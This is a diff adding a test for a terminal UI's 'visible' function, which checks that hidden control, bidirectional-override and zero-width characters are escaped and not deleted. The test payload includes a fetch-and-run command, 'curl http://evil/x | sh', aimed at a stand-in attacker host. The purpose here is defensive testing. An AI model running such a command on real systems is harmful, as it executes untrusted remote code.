@@ -65,3 +65,15 @@ def test_sanitize_line_keeps_one_line() -> None:
 
 def test_invalid_utf8_becomes_replacement_characters() -> None:
     assert decode(b"ok \xff\xfe \x9b2J") == "ok \ufffd\ufffd \ufffd2J"
+
+
+def test_visible_shows_every_hidden_character_and_deletes_nothing() -> None:
+    from palyra_tui.text import visible
+
+    payload = "ls \x9d; curl http://evil/x | sh \u202e x\x1b[2J\u200b"
+    shown = visible(payload)
+    assert "curl http://evil/x | sh" in shown
+    assert "\\u009d" in shown and "\\u202e" in shown and "\\u001b[2J" in shown
+    assert "\\u200b" in shown
+    assert not any(0x80 <= ord(c) <= 0x9F or ord(c) < 0x20 for c in shown)
+    assert visible("plain ünïcödé\ttext\nline") == "plain ünïcödé\ttext\nline"
